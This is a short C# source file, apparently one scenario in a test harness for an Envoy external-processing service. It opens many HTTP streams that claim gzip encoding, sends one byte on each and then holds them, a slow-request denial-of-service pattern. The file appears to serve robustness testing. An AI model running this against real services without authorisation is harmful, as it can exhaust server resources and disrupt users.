using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.ThroughEnvoy;

/// <summary>Uploads through Envoy that say gzip, send one byte and wait.</summary>
internal sealed class CompressedThenIdle : Attack
{
    public override Attacker By => Attacker.Client;

    public override Config Config => Configs.BehindEnvoy;

    public override async Task RunAsync(Target target)
    {
        await target.OnManyAsync(10, async peer =>
        {
            for (int i = 0; i < target.Count(20, 90) && !peer.Gone; i++)
            {
                int stream = await peer.RequestAsync([.. Http.Post("/idle"), ("content-type", "text/plain"), ("content-encoding", "gzip")]);
                await peer.SendAsync(stream, new byte[] { 0x1F });
            }
        });
        await target.HoldAsync();
    }
}
